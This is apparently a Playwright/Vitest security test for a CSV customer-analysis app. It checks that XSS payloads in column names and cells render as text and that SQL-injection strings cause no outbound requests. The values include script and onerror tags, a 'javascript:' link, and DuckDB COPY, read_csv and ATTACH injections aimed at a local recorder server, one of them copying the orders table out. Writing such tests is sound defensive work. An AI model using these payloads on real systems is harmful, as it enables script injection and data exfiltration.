// Everything that comes from a user's file is shown as text: column names, customer names and
// products carrying HTML, script or `javascript:` links run nothing, and the database treats
// SQL in a value as a value. A local server records any request the payloads might cause.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, inject, it } from 'vitest';
import { fixture } from '../helpers/db';
import { openPage, requestsSettled, type Watched } from './browser';
import { startRecorder, type Recorder } from './recorder';

const IMG = '<img src=x onerror=alert(1)>';
// DuckDB's lenient CSV mode (strict_mode=false) keeps a quoted field's escaped quotes doubled,
// so the file's `"><script>` may read as `""><script>`: either way it must show as text.
const SCRIPT = /^"+><script>alert\(1\)<\/script>$/;
const LINK = 'javascript:alert(1)';

/** Elements a payload would have created had it been parsed as HTML. */
const injectedElements = (page: Page) =>
  page.evaluate(
    () =>
      document.querySelectorAll(
        'img[src="x"], img[onerror], svg[onload], a[href^="javascript"], script:not([src]):not([type])',
      ).length -
      // Kit's own inline boot script is the one allowed script without src.
      document.querySelectorAll('body > div > script:not([src])').length,
  );

const list = (page: Page, title: RegExp) =>
  page.locator('.list', { has: page.getByRole('heading', { name: title }) });

describe('hostile text in a file', () => {
  let w: Watched;
  let recorder: Recorder;
  beforeEach(async () => {
    recorder = await startRecorder();
    w = await openPage(inject('baseURL'));
  });
  afterEach(async () => {
    await w.browser.close();
    await recorder.close();
  });

  it('shows HTML and script in column names, customers and products as plain text', async () => {
    const { page } = w;
    await page.locator('input[type=file]').setInputFiles(fixture('xss.csv'));
    await page.getByRole('heading', { name: 'Check the columns' }).waitFor();
    expect(await page.locator('select[name=customer]').inputValue()).toBe(
      "<img src=x onerror=alert('header')>Customer",
    );
    const preview = page.locator('form.mapping table');
    await preview
      .getByRole('columnheader', { name: "<img src=x onerror=alert('header')>Customer" })
      .waitFor();
    await preview
      .getByRole('columnheader', { name: /^"+><script>alert\('header'\)<\/script>Order Date$/ })
      .waitFor();
    await preview
      .getByRole('columnheader', { name: "<svg onload=alert('header')>Product" })
      .waitFor();
    await preview.getByRole('cell', { name: IMG, exact: true }).first().waitFor();
    await preview.getByRole('cell', { name: SCRIPT }).first().waitFor();
    await preview.getByRole('cell', { name: '<svg onload=alert(2)>', exact: true }).waitFor();
    await preview.getByRole('cell', { name: 'javascript:alert(2)', exact: true }).waitFor();
    expect(await injectedElements(page)).toBe(0);

    await page.getByRole('button', { name: 'Analyse' }).click();
    const lapsed = list(page, /Lapsed customers/);
    await lapsed.waitFor({ timeout: 60_000 });
    // Lapsed: the two customers whose last purchase is over six months old, most valuable first.
    await lapsed.getByRole('cell', { name: IMG, exact: true }).waitFor();
    await lapsed.getByRole('cell', { name: SCRIPT }).waitFor();
    const vips = list(page, /VIPs/);
    await vips.getByRole('cell', { name: LINK, exact: true }).waitFor();
    await vips.getByRole('cell', { name: IMG, exact: true }).waitFor();
    // SQL in a value is a customer name like any other: six customers, nothing dropped.
    expect(await page.locator('[data-figure=customers] dd').textContent()).toBe('6');
    expect(await injectedElements(page)).toBe(0);
    expect(w.problems).toEqual([]);
  });

  it('sends nothing anywhere when values are SQL or HTML that point at another server', async () => {
    const { page } = w;
    const at = recorder.origin;
    const names = [
      `<img src=${at}/img>`,
      `'); COPY (SELECT * FROM orders) TO '${at}/copy'; --`,
      // (`' || ... || '` would do too, but it makes DuckDB's lenient sniffer pick `|` as the
      // delimiter and the file fails to read: an importer matter, not a security one.)
      `'); SELECT * FROM read_csv('${at}/read_csv'); --`,
      `"; ATTACH '${at}/attach' AS x; --`,
      `<a href=${at}/link>click</a>`,
    ];
    const rows = names.flatMap((name, i) => [
      `${2 * i + 1},"${name.replaceAll('"', '""')}",2024-01-0${i + 1},${10 + i}`,
      `${2 * i + 2},"${name.replaceAll('"', '""')}",2024-03-0${i + 1},${20 + i}`,
    ]);
    const customer = `customer <img src=${at}/header>`;
    const header = `order,${customer},date,amount`;
    const file = join(mkdtempSync(join(tmpdir(), 'regulars-xss-')), 'payloads.csv');
    writeFileSync(file, [header, ...rows].join('\n') + '\n');

    await page.locator('input[type=file]').setInputFiles(file);
    expect(await page.locator('select[name=customer]').inputValue()).toBe(customer);
    const preview = page.locator('form.mapping table');
    for (const name of names.slice(0, 3))
      await preview.getByRole('cell', { name, exact: true }).first().waitFor();
    await page.getByRole('button', { name: 'Analyse' }).click();
    await list(page, /VIPs/).waitFor({ timeout: 60_000 });
    expect(await page.locator('[data-figure=customers] dd').textContent()).toBe('5');
    // The top 20% of five customers is one: the last, with the most revenue.
    await list(page, /VIPs/).getByRole('cell', { name: names[4], exact: true }).waitFor();

    await requestsSettled(page);
    expect(recorder.requests).toEqual([]);
    expect(await injectedElements(page)).toBe(0);
    expect(w.problems).toEqual([]);
  });
});
